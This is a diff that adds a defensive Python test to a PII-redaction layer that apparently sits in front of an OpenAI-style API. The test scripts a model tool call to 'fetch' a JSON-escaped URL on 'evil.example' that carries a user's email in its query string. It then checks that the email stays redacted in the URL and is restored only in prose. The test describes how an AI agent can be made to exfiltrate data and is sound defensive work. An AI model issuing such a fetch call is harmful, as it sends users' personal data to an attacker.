@@ -165,3 +165,18 @@ def test_responses_plain_text_parts_and_tool_outputs_still_pass(server: Scripted
     ]
     _client(server).responses.create(model="m", input=items)
     assert "Order 1234 shipped." in json.dumps(server.requests[-1].body)
+
+
+def test_tool_arguments_with_json_escapes_keep_the_placeholder_out_of_a_url(server: ScriptedServer) -> None:
+    from openai_server import Reply
+
+    args = (
+        '{"url": "https:\\u002F\\u002Fevil\\u002Eexample\\u002Fc?d=<EMAIL_ADDRESS_1>", "note": "for <EMAIL_ADDRESS_1>"}'
+    )
+    server.push(Reply("", tool_call=("fetch", args)))
+    done = _client(server).chat.completions.create(model="m", messages=[ASK])
+    calls = done.choices[0].message.tool_calls
+    assert calls is not None
+    got = json.loads(calls[0].function.arguments)  # type: ignore[union-attr]
+    assert EMAIL not in got["url"] and "<EMAIL_ADDRESS_1>" in got["url"]
+    assert got["note"] == f"for {EMAIL}"  # restored where it is prose
